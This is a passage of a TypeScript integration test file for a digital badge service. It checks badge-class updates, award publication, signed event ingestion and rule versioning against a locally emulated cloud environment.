  it('updates a badge class, republishes it, and awards made afterwards carry the change', async () => {
    const before = await env.call('GET', '/v1/badge-classes/civic-mentor', { token: organizer });
    const updated = await env.call('PATCH', '/v1/badge-classes/civic-mentor', {
      token: admin,
      json: { name: 'Civic Mentor (2026)' },
    });
    expect(updated.status).toBe(200);
    expect(updated.body.updatedAt > before.body.updatedAt).toBe(true);
    expect(updated.body.alignment).toEqual([esco]);
    const document = (await (await fetch(updated.body.urls.achievement)).json()) as { name: string };
    expect(document.name).toBe('Civic Mentor (2026)');

    const award = await env.call('POST', '/v1/awards', {
      token: organizer,
      json: { badge: 'civic-mentor', email: 'mentor@example.org' },
    });
    const published = await awardPublished(award.body.award.awardId);
    const credential = (await (await fetch(published.urls.credential)).json()) as {
      credentialSubject: { achievement: { name: string } };
    };
    expect(credential.credentialSubject.achievement.name).toBe('Civic Mentor (2026)');
    const missing = await env.call('PATCH', '/v1/badge-classes/no-such-badge', {
      token: admin,
      json: { name: 'x' },
    });
    expect([missing.status, missing.body.error.code]).toEqual([404, 'BADGE_NOT_FOUND']);
  });
});

describe('rules', () => {
  it('creates a rule, changes an unlocked one in place, and gives a locked one a new version', async () => {
    const created = await env.call('POST', '/v1/rules', {
      token: admin,
      json: { ruleId: 'mentor-speakers', badge: 'civic-mentor', roles: ['spoke'] },
    });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({
      ruleId: 'mentor-speakers',
      version: 1,
      locked: false,
      condition: { minCount: 1 },
    });
    const inPlace = await env.call('PUT', '/v1/rules/mentor-speakers', {
      token: admin,
      json: { badge: 'civic-mentor', roles: ['spoke'], condition: { minCount: 2 } },
    });
    expect([inPlace.status, inPlace.body.newVersion, inPlace.body.rule.version]).toEqual([200, false, 1]);

    // The seeded rule for `attended` awards through the pipeline (POST /events, signed), which locks it.
    const secret = env.cloud.config.secrets.find((candidate) => candidate.logicalId.startsWith('IngestHmac'));
    const secrets = new SecretsManagerClient({
      endpoint: env.cloud.endpoints.secretsManager,
      region: env.cloud.endpoints.region,
      credentials: { accessKeyId: 'S3RVER', secretAccessKey: 'S3RVER' },
    });
    const keys = JSON.parse(
      (await secrets.send(new GetSecretValueCommand({ SecretId: secret?.arn }))).SecretString as string,
    ) as Record<string, string>;
    secrets.destroy();
    const [keyId, keySecret] = Object.entries(keys)[0] as [string, string];
    const event = JSON.stringify({
      specVersion: '1.0',
      eventId: 'rules-test-1',
      occurredAt: '2026-02-01T10:00:00Z',
      activity: { id: 'course-1', name: 'Citizen 2.1 course' },
      participant: { email: 'attendee@example.org', name: 'Atte' },
      role: 'attended',
    });
    const ingested = await env.call('POST', '/events', {
      body: event,
      contentType: 'application/json',
      headers: signIngestRequest(event, { keyId, secret: keySecret }) as unknown as Record<string, string>,
    });
    expect(ingested.status).toBe(202);
    await eventually(
      async () => {
        const rules = await env.call('GET', '/v1/rules', { token: admin });
        return (
          rules.body.rules.find(
            (rule: { ruleId: string; locked: boolean }) => rule.ruleId === 'citizen21-witness' && rule.locked,
          ) ?? undefined
        );
      },
      60_000,
      'the witness rule locked by an award',
    );
    const versioned = await env.call('PUT', '/v1/rules/citizen21-witness', {
      token: admin,
      json: { badge: 'witness', roles: ['attended', 'spoke'] },
    });
    expect([
      versioned.status,
      versioned.body.newVersion,
      versioned.body.rule.version,
      versioned.body.rule.locked,
    ]).toEqual([200, true, 2, false]);

    const unknownBadge = await env.call('POST', '/v1/rules', {
      token: admin,
      json: { ruleId: 'r-2', badge: 'no-such-badge', roles: ['spoke'] },
    });
    expect([unknownBadge.status, fieldsOf(unknownBadge)]).toEqual([400, ['badge']]);
    const duplicate = await env.call('POST', '/v1/rules', {
      token: admin,
      json: { ruleId: 'mentor-speakers', badge: 'civic-mentor', roles: ['spoke'] },
    });
    expect([duplicate.status, duplicate.body.error.code]).toEqual([409, 'RULE_EXISTS']);
  });
});
